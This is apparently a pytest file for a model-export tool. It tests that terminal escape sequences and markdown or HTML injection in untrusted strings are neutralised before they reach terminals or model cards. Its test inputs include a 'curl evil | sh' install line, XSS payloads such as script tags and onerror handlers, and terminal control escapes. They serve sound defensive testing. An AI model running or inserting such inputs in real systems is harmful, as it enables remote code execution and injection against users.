"""What strangers' files say reaches no terminal and no model card as more than text."""

import re

import pytest

from export import main as export
from export import markdown
from system import UserError, cli, printable
from tests.made_runs import make_run

ESCAPES = ["\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "\r\x08", "\u202e", "\u2028", "\x00", "\x7f"]


@pytest.mark.parametrize("escape", ESCAPES)
def test_escapes_are_printed_as_text(escape):
    for told in (str(UserError(f"a{escape}b")), cli.one_line(KeyError(f"a{escape}b")), printable(f"a{escape}b")):
        assert escape[0] not in told and "\\" in told


def test_other_languages_are_printed_as_they_are():
    assert printable("Größe 画像 ~/a b\n\tc") == "Größe 画像 ~/a b\n\tc"


@pytest.mark.parametrize(
    "evil",
    ["x\n\n# Install first\n\n    curl evil | sh", "<script>alert(1)</script>", "<img src=x onerror=a>", "[a](http://b)",
     "![a](b)", "`x`", "a | b", "&lt;b&gt;", "**a**", "\x1b[2J"],
)  # fmt: skip
def test_a_card_holds_text_only(evil):
    text = markdown(evil)
    assert "\n" not in text and "\x1b" not in text and not re.search(r"(?<!\\)[<>|`\[\]*]", text)


def test_an_export_that_fails_leaves_nothing(tmp_path, tiny_overrides, monkeypatch):
    run = make_run(tmp_path / "run", tiny_overrides)
    monkeypatch.setattr("export.write_safetensors", lambda *_: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        export([f"ckpt={run}", f"out={tmp_path / 'out'}"])
    assert [path.name for path in tmp_path.iterdir()] == ["run"]
    monkeypatch.undo()
    (run / "metrics.jsonl").write_text('{"step": 1, "train/loss": "nan"}\n{"step": 1, "tra')
    export([f"ckpt={run}", f"out={tmp_path / 'out'}"])
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        "README.md",
        "config.json",
        "model.safetensors",
    ]
